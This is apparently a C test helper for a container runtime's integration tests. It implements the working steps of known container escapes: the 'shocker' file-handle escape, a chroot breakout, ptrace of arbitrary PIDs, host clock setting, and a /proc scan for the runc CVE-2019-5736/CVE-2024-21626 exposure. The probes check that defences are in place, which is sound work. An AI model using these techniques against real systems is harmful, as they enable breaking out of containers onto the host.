/*
 * breakout-probe: the classic container escapes that busybox has no applet
 * for, one subcommand each, for test/integration/breakout.test.ts. Built
 * static on the host (gcc -static) and put into a test image next to busybox.
 *
 * Each subcommand makes the one system call the escape needs and prints what
 * a user would see: the result on stdout, or "<call>: <strerror>" on stderr
 * with exit code 1. None of them can harm the host: the worst any of them
 * does when the defence is missing is read a directory, attach to its own
 * child, or set the clock to the time it already is.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int fail(const char *what)
{
    fprintf(stderr, "%s: %s\n", what, strerror(errno));
    return 1;
}

/* The names in an open directory, one a line. */
static int list_dir(int dirfd)
{
    DIR *d = fdopendir(dirfd);
    if (!d)
        return fail("fdopendir");
    struct dirent *e;
    while ((e = readdir(d)))
        if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
            printf("%s\n", e->d_name);
    closedir(d);
    return 0;
}

/* handle PATH: print the file handle of PATH as "TYPE HEX" (run on the host). */
static int handle(const char *path)
{
    struct file_handle *fh = malloc(sizeof(*fh) + MAX_HANDLE_SZ);
    int mount_id;
    fh->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, path, fh, &mount_id, 0) < 0)
        return fail("name_to_handle_at");
    printf("%d ", fh->handle_type);
    for (unsigned i = 0; i < fh->handle_bytes; i++)
        printf("%02x", fh->f_handle[i]);
    printf("\n");
    return 0;
}

/*
 * open-by-handle FILE TYPE HEX: the "shocker" escape (2014). FILE is any file
 * the container sees on the host's filesystem (a bind mount such as
 * /etc/hostname); the handle names a directory of that filesystem by inode,
 * which the kernel opens without looking at paths, so without caring about
 * the container's root. Needs CAP_DAC_READ_SEARCH; Docker's seccomp profile
 * allows the call only with that capability.
 */
static int open_by_handle(const char *file, const char *type, const char *hex)
{
    size_t n = strlen(hex) / 2;
    struct file_handle *fh = malloc(sizeof(*fh) + n);
    fh->handle_bytes = n;
    fh->handle_type = atoi(type);
    for (size_t i = 0; i < n; i++)
        sscanf(hex + 2 * i, "%2hhx", &fh->f_handle[i]);
    int mount_fd = open(file, O_RDONLY);
    if (mount_fd < 0)
        return fail("open");
    int fd = open_by_handle_at(mount_fd, fh, O_RDONLY | O_DIRECTORY);
    if (fd < 0)
        return fail("open_by_handle_at");
    return list_dir(fd);
}

/*
 * chroot-escape: the classic way out of a chroot jail. chroot() into a
 * subdirectory but keep the working directory outside it, climb with
 * chdir("..") (nothing stops at a root you are not under), then chroot(".")
 * where the climb ended. Prints what "/" holds afterwards.
 */
static int chroot_escape(void)
{
    if (mkdir("/breakout-jail", 0755) < 0 && errno != EEXIST)
        return fail("mkdir");
    if (chdir("/") < 0)
        return fail("chdir");
    if (chroot("/breakout-jail") < 0)
        return fail("chroot");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return fail("chdir");
    if (chroot(".") < 0)
        return fail("chroot");
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    if (fd < 0)
        return fail("open");
    return list_dir(fd);
}

/* ptrace-child: attach to a child of our own (Docker's profile allows ptrace). */
static int ptrace_child(void)
{
    pid_t child = fork();
    if (child < 0)
        return fail("fork");
    if (child == 0) {
        for (;;)
            pause();
    }
    int rc = 0;
    if (ptrace(PTRACE_ATTACH, child, 0, 0) < 0) {
        rc = fail("ptrace(PTRACE_ATTACH)");
    } else {
        int status;
        waitpid(child, &status, 0); /* it stops on attach */
        printf("attached to my child %d: %s\n", child, WIFSTOPPED(status) ? "stopped" : "?");
        ptrace(PTRACE_DETACH, child, 0, 0);
    }
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return rc;
}

/* ptrace PID: attach to a process by pid (a host process is not in our PID namespace). */
static int ptrace_pid(const char *pid)
{
    if (ptrace(PTRACE_ATTACH, (pid_t)atoi(pid), 0, 0) < 0)
        return fail("ptrace(PTRACE_ATTACH)");
    printf("attached to %s\n", pid);
    ptrace(PTRACE_DETACH, (pid_t)atoi(pid), 0, 0);
    return 0;
}

/*
 * settime: set the system clock to what it reads now. Needs CAP_SYS_TIME, and
 * the clock is not namespaced: it would be the host's. Reading it just before
 * makes a missing defence harmless (the clock moves back by microseconds).
 */
static int settime(void)
{
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    if (clock_settime(CLOCK_REALTIME, &now) < 0)
        return fail("clock_settime");
    printf("clock set\n");
    return 0;
}

/*
 * host-exe SECONDS: the precondition of CVE-2019-5736 and CVE-2024-21626.
 * A process that enters the container from the host (glass exec) runs the
 * runtime's own binary until its execve(). If in that window it is dumpable
 * and no more privileged than the container's root, a process in the
 * container may open its /proc/<pid>/exe (the host's binary: runc's was
 * overwritten this way) and the links in its /proc/<pid>/fd (whatever host files and
 * directories it still holds). Watch /proc for such a process for SECONDS:
 * print what it exposes (names, and which open for writing: nothing is
 * written) and exit 0, or say
 * none was reachable and exit 1.
 */
static int host_exe(const char *seconds)
{
    struct stat self;
    if (stat("/proc/self/exe", &self) < 0)
        return fail("stat /proc/self/exe");
    time_t end = time(NULL) + atoi(seconds);
    long scans = 0;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        if (!d)
            return fail("opendir /proc");
        struct dirent *e;
        scans++;
        while ((e = readdir(d))) {
            char exe[300], link[512];
            struct stat st;
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
                continue;
            snprintf(exe, sizeof exe, "/proc/%s/exe", e->d_name);
            int fd = open(exe, O_RDONLY);
            if (fd < 0 || fstat(fd, &st) < 0 || st.st_dev == self.st_dev) {
                if (fd >= 0)
                    close(fd);
                continue;
            }
            ssize_t n = readlink(exe, link, sizeof link - 1);
            link[n < 0 ? 0 : n] = '\0';
            printf("pid %s runs a host binary, open for reading: %s\n", e->d_name, link);
            char fds[300];
            snprintf(fds, sizeof fds, "/proc/%s/fd", e->d_name);
            DIR *f = opendir(fds);
            struct dirent *x;
            while (f && (x = readdir(f))) {
                char path[600], target[512];
                if (x->d_name[0] == '.')
                    continue;
                snprintf(path, sizeof path, "%s/%s", fds, x->d_name);
                n = readlink(path, target, sizeof target - 1);
                target[n < 0 ? 0 : n] = '\0';
                if (target[0] != '/')
                    continue;
                /* opened for writing but never written: proof enough, no harm */
                int w = open(path, O_WRONLY | O_APPEND | O_NOCTTY);
                printf("its fd %s: %s%s\n", x->d_name, target, w >= 0 ? " (opens for writing)" : "");
                if (w >= 0)
                    close(w);
            }
            if (f)
                closedir(f);
            return 0;
        }
        closedir(d);
    }
    fprintf(stderr, "no process running a host binary was reachable in %s s (%ld scans of /proc)\n", seconds, scans);
    return 1;
}

int main(int argc, char **argv)
{
    const char *cmd = argc > 1 ? argv[1] : "";
    if (!strcmp(cmd, "handle") && argc == 3)
        return handle(argv[2]);
    if (!strcmp(cmd, "open-by-handle") && argc == 5)
        return open_by_handle(argv[2], argv[3], argv[4]);
    if (!strcmp(cmd, "chroot-escape"))
        return chroot_escape();
    if (!strcmp(cmd, "ptrace-child"))
        return ptrace_child();
    if (!strcmp(cmd, "ptrace") && argc == 3)
        return ptrace_pid(argv[2]);
    if (!strcmp(cmd, "settime"))
        return settime();
    if (!strcmp(cmd, "host-exe") && argc == 3)
        return host_exe(argv[2]);
    fprintf(stderr, "usage: breakout-probe handle PATH | open-by-handle FILE TYPE HEX | chroot-escape | ptrace-child | ptrace PID | settime | host-exe SECONDS\n");
    return 2;
}
